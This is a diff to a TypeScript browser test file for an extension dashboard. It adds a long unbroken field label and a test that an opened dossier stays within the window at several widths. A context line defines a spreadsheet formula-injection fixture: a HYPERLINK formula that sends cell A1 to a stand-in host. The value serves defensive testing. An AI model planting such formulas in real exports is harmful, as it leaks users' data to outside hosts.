@@ -15,6 +15,7 @@ const HOSTILE = '=HYPERLINK("https://example.invalid/?"&A1;"Xem")\n;+1';
 const list = submissions(60).map((it) => ({ ...it, dossierMark: 'a-mark-that-stays-here' }));
 const fields = list.flatMap(({ id }) => fieldsOf(id));
 if (fields[0]) fields[0] = { ...fields[0], label: HOSTILE };
+if (fields[1]) fields[1] = { ...fields[1], label: 'o_khai_khong_co_dau_cach_'.repeat(12) };
 const records: Partial<Stores> = { submissions: list, fields, days: summariseDays(list) };
 
 let stage: Stage;
@@ -145,4 +146,19 @@ describe('the tables of the dashboard', () => {
     expect(await page.locator('[data-action="export"]').isEnabled()).toBe(true);
     await page.close();
   });
+});
+
+it('an opened dossier is not broader than the window, whatever the page calls its fields', async () => {
+  const page = await stage.extension.open('dashboard');
+  await page.bringToFront();
+  await page.locator('tr[data-submission] button').first().click();
+  await page.locator('[data-detail] [data-field]').first().waitFor();
+  for (const width of [1280, 1030, 853, 360]) {
+    await page.setViewportSize({ width, height: 900 });
+    const cut = await page.evaluate(
+      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+    );
+    expect([width, cut]).toEqual([width, 0]);
+  }
+  await page.close();
 });
